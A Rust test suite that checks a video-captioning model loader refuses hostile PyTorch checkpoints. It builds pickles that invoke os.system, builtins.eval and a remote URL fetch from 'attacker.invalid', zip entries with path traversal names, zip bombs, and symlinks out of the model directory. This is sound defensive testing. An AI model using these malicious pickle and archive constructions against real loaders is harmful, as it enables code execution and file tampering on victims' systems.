//! Malicious model files (issue 13): pickles with every code-carrying opcode, zip archives with
//! path traversal names or bombs, tensors claiming more bytes than the file holds, symbolic
//! links out of the model directory. Each is refused with an error that names what is wrong;
//! nothing is executed, nothing huge is allocated (the allocator of this binary aborts on any
//! single allocation over 1 GiB, and each refusal must allocate at most 64 MiB at once and
//! 256 MiB in all: the unpickler's arena is capped at 2^21 values of 32 bytes).
//!
//! `cargo test -p llamavid-gst-tests --test hostile_models`

use std::fs;
use std::io::Cursor;
use std::path::{Path, PathBuf};

use gst::prelude::*;
use gstllamavid::model::torch_load::TorchArchive;
use gstllamavid::model::{LlamaVid, LoadOptions, WeightFormat};
use llamavid_gst_tests::alloc_meter::{measure, MeteredAllocator};
use llamavid_gst_tests::hostile::{small_state_dict, torch_archive, zip_of, Pickle, ZipEntry};
use llamavid_gst_tests::*;

#[global_allocator]
static ALLOC: MeteredAllocator = MeteredAllocator;

/// Opening `bytes` as a checkpoint must fail; returns the message, after checking that the
/// attempt allocated little (no size from the file was trusted).
fn refused(bytes: &[u8]) -> String {
    let (result, allocated) = measure(|| {
        TorchArchive::from_reader(Path::new("hostile.bin"), Cursor::new(bytes)).map(|_| ())
    });
    let message = match result {
        Ok(()) => panic!("a hostile archive was accepted"),
        Err(e) => e.to_string(),
    };
    println!("refused: {message}");
    assert!(
        allocated.largest <= (64 << 20) && allocated.total < (256 << 20),
        "refusing allocated {allocated:?}: {message}"
    );
    message
}

fn assert_mentions(message: &str, parts: &[&str]) {
    for part in parts {
        assert!(
            message.contains(part),
            "`{message}` should mention `{part}`"
        );
    }
}

/// A pickle that would create `marker` if Python ran it; the archive is refused with `parts`
/// in the message and the marker never appears.
fn refused_without_running(build: impl FnOnce(&str) -> Pickle, parts: &[&str]) {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    let command = format!("touch {}", marker.display());
    let pickle = build(&command);
    let message = refused(&torch_archive(&pickle, &[]));
    assert_mentions(&message, parts);
    assert!(!marker.exists(), "the pickle's code ran");
}

// ----- code-carrying opcodes ------------------------------------------------------------------

#[test]
fn global_and_reduce_of_os_system() {
    refused_without_running(Pickle::system, &["posix.system", "nothing was executed"]);
}

#[test]
fn global_of_builtins_eval() {
    refused_without_running(
        |cmd| {
            Pickle::new()
                .global("builtins", "eval")
                .unicode(&format!("__import__('os').system('{cmd}')"))
                .op(0x85)
                .op(b'R')
                .stop()
        },
        &["builtins.eval"],
    );
}

#[test]
fn stack_global_of_os_system() {
    refused_without_running(
        |cmd| {
            Pickle::new()
                .op(0x8c)
                .op(2)
                .bytes(b"os")
                .op(0x8c)
                .op(6)
                .bytes(b"system")
                .op(0x93)
                .unicode(cmd)
                .op(0x85)
                .op(b'R')
                .stop()
        },
        &["os.system"],
    );
}

#[test]
fn global_of_a_torch_function_that_is_not_a_rebuild_function() {
    // torch.load(weights_only=False) would call torch.hub.load_state_dict_from_url here.
    refused_without_running(
        |_| {
            Pickle::new()
                .global("torch.hub", "load_state_dict_from_url")
                .unicode("http://attacker.invalid/x")
                .op(0x85)
                .op(b'R')
                .stop()
        },
        &["torch.hub.load_state_dict_from_url"],
    );
}

#[test]
fn reduce_of_an_allowed_global_that_is_not_callable_here() {
    refused_without_running(
        |_| {
            Pickle::new()
                .global("torch", "FloatStorage")
                .op(b')')
                .op(b'R')
                .stop()
        },
        &["REDUCE", "torch.FloatStorage"],
    );
}

#[test]
fn reduce_of_a_value_that_is_not_a_global() {
    refused_without_running(
        |cmd| Pickle::new().unicode(cmd).op(b')').op(b'R').stop(),
        &["REDUCE calls a string"],
    );
}

#[test]
fn build_of_anything_but_a_dict() {
    refused_without_running(
        |_| Pickle::new().op(b']').op(b'}').op(b'b').stop(),
        &["BUILD of a list", "__setstate__"],
    );
}

#[test]
fn inst_opcode() {
    refused_without_running(
        |cmd| {
            Pickle::new()
                .mark()
                .unicode(cmd)
                .op(b'i')
                .bytes(b"os\nsystem\n")
                .stop()
        },
        &["INST", "nothing was executed"],
    );
}

#[test]
fn obj_opcode() {
    refused_without_running(
        |cmd| Pickle::new().mark().unicode(cmd).op(b'o').stop(),
        &["OBJ"],
    );
}

#[test]
fn newobj_and_newobj_ex_opcodes() {
    for (op, name) in [(0x81u8, "NEWOBJ"), (0x92, "NEWOBJ_EX")] {
        refused_without_running(|_| Pickle::new().op(b')').op(b')').op(op).stop(), &[name]);
    }
}

#[test]
fn ext_opcodes() {
    for (op, name, arg) in [
        (0x82u8, "EXT1", &[1u8][..]),
        (0x83, "EXT2", &[1, 0][..]),
        (0x84, "EXT4", &[1, 0, 0, 0][..]),
    ] {
        refused_without_running(
            |_| Pickle::new().op(op).bytes(arg).op(b')').op(b'R').stop(),
            &[name],
        );
    }
}

#[test]
fn rebuild_from_type_v2_with_a_foreign_function() {
    refused_without_running(
        |_| {
            Pickle::new()
                .global("torch._tensor", "_rebuild_from_type_v2")
                .mark()
                .global("torch._tensor", "Tensor")
                .global("torch._tensor", "Tensor")
                .op(b')')
                .op(b'}')
                .tuple()
                .op(b'R')
                .stop()
        },
        &["_rebuild_from_type_v2"],
    );
}

// ----- sizes the file claims ------------------------------------------------------------------

fn f32_tensor(numel: i64, offset: i64, size: &[i64], stride: &[i64]) -> Pickle {
    Pickle::state_dict_of(
        |p| p.tensor("FloatStorage", "0", numel, offset, size, stride),
        "w",
    )
}

#[test]
fn a_tensor_claiming_2_pow_40_bytes_is_refused_before_allocating() {
    // 2^38 f32 elements = 2^40 bytes, in an archive of a few hundred bytes.
    let numel = 1i64 << 38;
    let pickle = f32_tensor(numel, 0, &[1 << 19, 1 << 19], &[1 << 19, 1]);
    let message = refused(&torch_archive(&pickle, &[("0", vec![0; 64])]));
    assert_mentions(&message, &["tensor `w`", "1099511627776 bytes", "holds 64"]);
}

#[test]
fn a_view_reaching_past_its_storage_is_refused() {
    let pickle = f32_tensor(4, 2, &[2, 2], &[2, 1]);
    let message = refused(&torch_archive(&pickle, &[("0", vec![0; 16])]));
    assert_mentions(&message, &["past its storage of 4"]);
}

#[test]
fn sizes_whose_product_overflows_are_refused() {
    let huge = i64::MAX / 2;
    let pickle = f32_tensor(4, 0, &[huge, huge, huge], &[1, 1, 1]);
    let message = refused(&torch_archive(&pickle, &[("0", vec![0; 16])]));
    assert_mentions(&message, &["overflows"]);
}

#[test]
fn negative_sizes_and_offsets_are_refused() {
    let message = refused(&torch_archive(
        &f32_tensor(4, -1, &[4], &[1]),
        &[("0", vec![0; 16])],
    ));
    assert_mentions(&message, &["negative"]);
    let message = refused(&torch_archive(
        &f32_tensor(4, 0, &[-4], &[1]),
        &[("0", vec![0; 16])],
    ));
    assert_mentions(&message, &["negative"]);
}

#[test]
fn a_string_claiming_4_gib_is_refused_before_allocating() {
    let pickle = Pickle::new()
        .op(b'X')
        .bytes(&u32::MAX.to_le_bytes())
        .bytes(b"abc");
    let message = refused(&torch_archive(&pickle, &[]));
    assert_mentions(&message, &["needs 4294967295 more bytes"]);
}

#[test]
fn a_billion_laughs_pickle_stays_small() {
    // Each step pairs the memoised value with itself: 2^2000 values if copied.
    let mut pickle = Pickle::new().op(b']').op(b'q').op(0);
    for _ in 0..2000 {
        pickle = pickle.op(b'h').op(0).op(b'h').op(0).op(0x86).op(b'q').op(0);
    }
    let message = refused(&torch_archive(&pickle.stop(), &[]));
    assert_mentions(&message, &["holds a tuple, not a state dict"]);
}

#[test]
fn deep_nesting_does_not_overflow_the_stack() {
    let mut bytes = vec![0x80, 2, b')'];
    bytes.extend(std::iter::repeat_n(0x85u8, 1_000_000)); // TUPLE1, a million deep
    bytes.push(b'.');
    let message = refused(&torch_archive(&Pickle(bytes), &[]));
    assert_mentions(&message, &["not a state dict"]);
}

#[test]
fn a_pickle_creating_millions_of_values_is_cut_off() {
    let mut bytes = vec![0x80, 2];
    bytes.extend(std::iter::repeat_n(b'N', 4_000_000));
    bytes.push(b'.');
    let message = refused(&torch_archive(&Pickle(bytes), &[]));
    assert_mentions(&message, &["more than 2097152 values"]);
}

#[test]
fn structural_garbage_is_an_error_not_a_panic() {
    let cases: Vec<(Pickle, &str)> = vec![
        (
            Pickle::new().op(b'N').op(b'N').mark().op(b'0').op(b't'),
            "popped below its MARK",
        ),
        (Pickle::new().op(b'h').op(9), "memo entry 9"),
        (Pickle::new().op(b'u'), "no MARK"),
        (Pickle::new().op(b'}').mark().op(b'N').op(b'u'), "odd count"),
        (Pickle::new().op(b'N').op(b'N').op(b's'), "empty stack"),
        (Pickle::new().op(b'N'), "needs 1 more bytes"),
        (Pickle::new().op(0x8a).op(200), "integer of 200 bytes"),
        (
            Pickle::new().op(b'S').bytes(b"'x'\n"),
            "not one torch.save writes",
        ),
        (Pickle::new().op(b'c').bytes(&[b'a'; 300]), "newline"),
        (Pickle::new().op(0x80).op(99), "protocol 99"),
    ];
    for (pickle, expected) in cases {
        let message = refused(&torch_archive(&pickle, &[]));
        assert_mentions(&message, &[expected]);
    }
}

#[test]
fn storages_that_are_not_what_torch_save_writes() {
    let compressed = zip_of(&[
        ZipEntry::stored("archive/data.pkl", f32_tensor(4, 0, &[4], &[1]).0),
        ZipEntry::deflated("archive/data/0", vec![0; 16]),
    ]);
    assert_mentions(&refused(&compressed), &["compressed"]);
    let missing = torch_archive(&f32_tensor(4, 0, &[4], &[1]), &[]);
    assert_mentions(
        &refused(&missing),
        &["archive/data/0 is not in the archive"],
    );
    let odd_key =
        Pickle::state_dict_of(|p| p.tensor("FloatStorage", "../0", 4, 0, &[4], &[1]), "w");
    assert_mentions(
        &refused(&torch_archive(&odd_key, &[("0", vec![0; 16])])),
        &["storage key that is not a plain name"],
    );
    let bools = Pickle::state_dict_of(|p| p.tensor("BoolStorage", "0", 4, 0, &[4], &[1]), "w");
    assert_mentions(
        &refused(&torch_archive(&bools, &[("0", vec![0; 4])])),
        &["torch.BoolStorage is not supported"],
    );
    let big_endian = zip_of(&[
        ZipEntry::stored("archive/data.pkl", f32_tensor(4, 0, &[4], &[1]).0),
        ZipEntry::stored("archive/byteorder", "big"),
        ZipEntry::stored("archive/data/0", vec![0; 16]),
    ]);
    assert_mentions(&refused(&big_endian), &["little endian"]);
}

// ----- the zip archive itself -----------------------------------------------------------------

#[test]
fn zip_entries_with_path_traversal_names_are_refused() {
    for name in [
        "../../etc/cron.d/evil",
        "/etc/passwd",
        "archive/../../x",
        "archive/./data.pkl",
        "archive\\..\\x",
        "archive//x",
    ] {
        let bytes = zip_of(&[
            ZipEntry::stored("archive/data.pkl", Pickle::new().op(b'}').stop().0),
            ZipEntry::stored(name, "x"),
        ]);
        let message = refused(&bytes);
        assert!(
            message.contains("path traversal") || message.contains("outside the archive folder"),
            "{name}: {message}"
        );
    }
}

#[test]
fn two_archives_in_one_zip_are_refused() {
    let bytes = zip_of(&[
        ZipEntry::stored("a/data.pkl", Pickle::new().op(b'}').stop().0),
        ZipEntry::stored("b/data.pkl", Pickle::new().op(b'}').stop().0),
    ]);
    assert_mentions(&refused(&bytes), &["two top-level folders"]);
}

#[test]
fn a_zip_bomb_pickle_is_refused_at_the_cap() {
    // 64 MiB of zeros deflate to ~64 KiB; the pickle cap is 16 MiB.
    let bomb = zip_of(&[ZipEntry::deflated("archive/data.pkl", vec![b'N'; 64 << 20])]);
    assert!(bomb.len() < 1 << 20);
    assert_mentions(&refused(&bomb), &["data.pkl declares 67108864 bytes"]);
}

#[test]
fn a_zip_bomb_that_lies_about_its_size_stops_at_the_cap() {
    let mut bomb = zip_of(&[ZipEntry::deflated("archive/data.pkl", vec![b'N'; 64 << 20])]);
    // Rewrite the declared uncompressed size (local header and central directory) to 100.
    let declared = (64u32 << 20).to_le_bytes();
    let mut patched = 0;
    for i in 0..bomb.len().saturating_sub(4) {
        if bomb[i..i + 4] == declared {
            bomb[i..i + 4].copy_from_slice(&100u32.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(
        patched, 2,
        "sizes in the local header and the central directory"
    );
    let message = refused(&bomb);
    assert!(
        message.contains("inflates past") || message.contains("unreadable"),
        "{message}"
    );
}

#[test]
fn not_a_zip_at_all() {
    assert_mentions(
        &refused(b"\x80\x02}."),
        &["not a readable PyTorch checkpoint"],
    );
    assert_mentions(&refused(&[]), &["not a readable PyTorch checkpoint"]);
}

// ----- what a well-formed archive gives -------------------------------------------------------

fn opened(bytes: Vec<u8>) -> TorchArchive<Cursor<Vec<u8>>> {
    TorchArchive::from_reader(Path::new("good.bin"), Cursor::new(bytes)).expect("a good archive")
}

#[test]
fn the_writers_archive_reads_back() {
    let archive = opened(small_state_dict());
    let names: Vec<&String> = archive.tensors().keys().collect();
    assert_eq!(names, ["a.weight", "b.bias"]);
    let a = archive.load("a.weight").unwrap().unwrap();
    assert_eq!(a.dims(), [2, 3]);
    assert_eq!(
        a.flatten_all().unwrap().to_vec1::<f32>().unwrap(),
        [0.0, 1.0, 2.0, 3.0, 4.0, 5.0]
    );
    assert!(archive.load("nope").unwrap().is_none());
}

#[test]
fn parameters_typed_tensors_metadata_and_strided_views_are_read() {
    let storage: Vec<u8> = (0..6).flat_map(|i| (i as f32).to_le_bytes()).collect();
    // {"t": Parameter(_rebuild_from_type_v2(_rebuild_tensor_v2, Tensor, (view...), {}))}
    // with the transposed view of a 2x3 storage (stride 1, 3), and `_metadata` set by BUILD.
    let transposed = |p: Pickle| p.tensor("FloatStorage", "0", 6, 0, &[3, 2], &[1, 3]);
    let pickle = Pickle::new()
        .global("collections", "OrderedDict")
        .op(b')')
        .op(b'R')
        .mark()
        .unicode("t")
        .global("torch._utils", "_rebuild_parameter")
        .mark();
    let pickle = transposed(pickle)
        .op(0x89)
        .global("collections", "OrderedDict")
        .op(b')')
        .op(b'R')
        .tuple()
        .op(b'R')
        .unicode("u")
        .global("torch._tensor", "_rebuild_from_type_v2")
        .mark()
        .global("torch._utils", "_rebuild_tensor_v2")
        .global("torch._tensor", "Tensor")
        .mark()
        .storage("FloatStorage", "0", 6)
        .long(1)
        .ints(&[2])
        .ints(&[1])
        .op(0x89)
        .op(b'}')
        .tuple()
        .op(b'}')
        .tuple()
        .op(b'R')
        .op(b'u')
        .op(b'}')
        .unicode("_metadata")
        .op(b'}')
        .op(b's')
        .op(b'b')
        .stop();
    let archive = opened(torch_archive(&pickle, &[("0", storage)]));
    let t = archive.load("t").unwrap().unwrap();
    assert_eq!(
        t.flatten_all().unwrap().to_vec1::<f32>().unwrap(),
        [0.0, 3.0, 1.0, 4.0, 2.0, 5.0],
        "the transposed view, gathered"
    );
    let u = archive.load("u").unwrap().unwrap();
    assert_eq!(u.to_vec1::<f32>().unwrap(), [1.0, 2.0]);
}

// ----- model directories ----------------------------------------------------------------------

fn load_error(model_dir: &Path) -> String {
    let mut options = LoadOptions::new(model_dir);
    options.weight_format = WeightFormat::Pickle;
    match LlamaVid::load(&options) {
        Ok(_) => panic!("{} loaded", model_dir.display()),
        Err(e) => e.to_string(),
    }
}

fn loads(model_dir: &Path) {
    let mut options = LoadOptions::new(model_dir);
    options.weight_format = WeightFormat::Pickle;
    LlamaVid::load(&options).expect("loads");
}

#[test]
fn a_shard_index_pointing_outside_the_directory_is_refused() {
    let (_tmp, model) = copy_fixture();
    let index_path = model.join("pytorch_model.bin.index.json");
    for target in [
        "../../../../etc/passwd",
        "/etc/passwd",
        "sub/shard.bin",
        "..",
    ] {
        let mut index: serde_json::Value =
            serde_json::from_str(&fs::read_to_string(&index_path).unwrap()).unwrap();
        let map = index["weight_map"].as_object_mut().unwrap();
        let first = map.keys().next().unwrap().clone();
        map.insert(first, target.into());
        fs::write(&index_path, index.to_string()).unwrap();
        let message = load_error(&model);
        assert_mentions(&message, &[target, "not a file beside the index"]);
    }
}

fn first_shard(model: &Path) -> PathBuf {
    let mut shards: Vec<PathBuf> = fs::read_dir(model)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "bin"))
        .collect();
    shards.sort();
    shards.remove(0)
}

#[test]
fn a_shard_carrying_code_fails_the_load_naming_the_global() {
    let (tmp, model) = copy_fixture();
    let marker = tmp.path().join("pwned");
    let shard = first_shard(&model);
    let pickle = Pickle::system(&format!("touch {}", marker.display()));
    fs::write(&shard, torch_archive(&pickle, &[])).unwrap();
    let message = load_error(&model);
    assert_mentions(
        &message,
        &[shard.file_name().unwrap().to_str().unwrap(), "posix.system"],
    );
    assert!(!marker.exists());
}

#[test]
fn a_symlink_out_of_the_model_directory_is_refused() {
    let (tmp, model) = copy_fixture();
    let outside = tmp.path().join("elsewhere.model");
    fs::rename(model.join("tokenizer.model"), &outside).unwrap();
    std::os::unix::fs::symlink(&outside, model.join("tokenizer.model")).unwrap();
    let message = load_error(&model);
    assert_mentions(
        &message,
        &[
            "tokenizer.model",
            "symbolic link",
            "outside the model directory",
        ],
    );
    // Linking to /etc, the same.
    fs::remove_file(model.join("tokenizer.model")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", model.join("tokenizer.model")).unwrap();
    assert_mentions(
        &load_error(&model),
        &["/etc/hostname", "outside the model directory"],
    );
}

#[test]
fn a_symlink_inside_the_model_directory_and_a_linked_directory_load() {
    let (tmp, model) = copy_fixture();
    let shard = first_shard(&model);
    let moved = model.join("moved-shard.bin.data");
    fs::rename(&shard, &moved).unwrap();
    std::os::unix::fs::symlink(moved.file_name().unwrap(), &shard).unwrap();
    loads(&model);
    let linked = tmp.path().join("linked-model");
    std::os::unix::fs::symlink(&model, &linked).unwrap();
    loads(&linked);
}

#[test]
fn the_hub_cache_layout_with_links_into_blobs_loads() {
    // huggingface_hub: models--org--name/snapshots/{commit}/{file} -> ../../blobs/{etag}.
    let (tmp, model) = copy_fixture();
    let repo = tmp.path().join("models--test--tiny");
    let blobs = repo.join("blobs");
    let snapshot = repo.join("snapshots/0123abcd");
    fs::create_dir_all(&blobs).unwrap();
    fs::create_dir_all(&snapshot).unwrap();
    for (i, entry) in fs::read_dir(&model).unwrap().enumerate() {
        let entry = entry.unwrap();
        let blob = blobs.join(format!("etag{i}"));
        fs::rename(entry.path(), &blob).unwrap();
        std::os::unix::fs::symlink(
            format!("../../blobs/etag{i}"),
            snapshot.join(entry.file_name()),
        )
        .unwrap();
    }
    // The EVA file and bert folder are found beside the model: put the snapshot there.
    let beside = model.parent().unwrap().join("snapshot-link");
    std::os::unix::fs::symlink(&snapshot, &beside).unwrap();
    loads(&beside);
}

#[test]
fn a_fifo_in_the_model_directory_is_refused_without_hanging() {
    let (_tmp, model) = copy_fixture();
    fs::remove_file(model.join("tokenizer.model")).unwrap();
    let fifo = model.join("tokenizer.model");
    let status = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo runs");
    assert!(status.success());
    let message = within("load with a FIFO", TIMEOUT, {
        let model = model.clone();
        move || load_error(&model)
    });
    assert_mentions(&message, &["tokenizer.model", "FIFO"]);
}

#[test]
fn the_element_posts_the_refusal_of_a_code_pickle() {
    let (tmp, model) = copy_fixture();
    let marker = tmp.path().join("pwned");
    let shard = first_shard(&model);
    fs::write(
        &shard,
        torch_archive(&Pickle::system(&format!("touch {}", marker.display())), &[]),
    )
    .unwrap();
    // The element reads safetensors first when present; make it read the pickles.
    let _ = fs::remove_file(model.join("model.safetensors"));
    let element = caption_element();
    element.set_property("model", model.to_str().unwrap());
    let mut bus = BusLog::attach(&element);
    assert!(set_state_within(&element, gst::State::Ready).is_err());
    let errors = bus.errors();
    set_state_within(&element, gst::State::Null).unwrap();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_mentions(&errors[0], &["posix.system"]);
    assert!(!marker.exists());
}
